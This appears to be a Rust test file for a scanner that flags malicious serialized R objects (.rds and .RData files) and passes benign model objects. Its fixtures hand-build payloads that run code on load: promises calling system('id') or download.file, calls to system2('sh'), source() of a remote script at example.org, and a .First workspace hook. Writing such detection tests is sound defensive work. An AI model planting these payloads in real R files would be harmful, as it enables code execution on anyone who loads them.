//! Objects of R: promises, functions, calls.

use crate::check;

/// Writes items of version 3 in XDR, as R 4.3 does.
struct R(Vec<u8>);

impl R {
    fn object() -> Self {
        Self(b"X\n\0\0\0\x03\0\x04\x03\x01\0\x03\x05\0\0\0\0\x05UTF-8".to_vec())
    }

    /// What `save` writes, with one variable.
    fn workspace(name: &str) -> Self {
        let Self(object) = Self::object();
        Self([b"RDX3\n".as_slice(), &object].concat()).int(0x402).symbol(name)
    }

    fn int(mut self, value: i32) -> Self {
        self.0.extend(value.to_be_bytes());
        self
    }

    fn char(self, text: &str) -> Self {
        let mut out = self.int(0x0004_0009).int(text.len() as i32);
        out.0.extend(text.as_bytes());
        out
    }

    fn symbol(self, name: &str) -> Self {
        self.int(1).char(name)
    }

    fn call(self, function: &str, argument: &str) -> Self {
        self.int(6).symbol(function).int(2).int(16).int(1).char(argument).int(254)
    }

    /// A function without arguments in the global environment.
    fn function(self, function: &str, argument: &str) -> Self {
        self.int(0x403).int(253).int(254).call(function, argument)
    }

    fn end(self) -> Self {
        self.int(254)
    }
}

const PROMISE: i32 = 5;
const UNBOUND: i32 = 252;

#[test]
fn models_keep_the_call_that_made_them() {
    check("m.rds", &R::object().call("lm", "y ~ x").0, &[]);
    check("m.rds", &R::object().function("predict", "x").0, &[]);
    check("m.rds", &R::object().function("readRDS", "x.rds").0, &[]);
    check("m.RData", &R::workspace("model").call("glm", "y ~ x").end().0, &[]);
}

#[test]
fn a_promise_where_none_is_written() {
    let evil = R::object().int(PROMISE).int(UNBOUND).call(concat!("sys", "tem"), "id");
    check("m.rds", &evil.0, &["r-code-execution"]);
    let unknown = R::object().int(PROMISE).int(UNBOUND).call("stopifnot", "x");
    check("m.rds", &unknown.0, &["r-code-execution"]);
}

#[test]
fn a_promise_among_variables() {
    let environment = |function: &str| {
        let frame = R::object().int(4).int(0).int(242).int(0x402).symbol("x").int(PROMISE).int(UNBOUND);
        frame.call(function, "x").end().int(254).int(254).0
    };
    check("m.rds", &environment("mean"), &[]);
    check("m.rds", &environment("download.file"), &["r-code-execution"]);
}

#[test]
fn functions_and_calls_that_do_harm() {
    let found: &[&str] = &["r-embedded-code"];
    check("m.rds", &R::object().function(concat!("sys", "tem2"), "sh").0, found);
    check("m.rds", &R::object().call("source", "http://example.org/x.R").0, found);
    check("m.rds", &R::object().function("do.call", concat!("sys", "tem")).0, found);
}

#[test]
fn a_workspace_with_a_hook() {
    check("m.RData", &R::workspace(".First").function("print", "x").end().0, &["r-code-execution"]);
    check("m.RData", &R::workspace("first").function("print", "x").end().0, &[]);
}
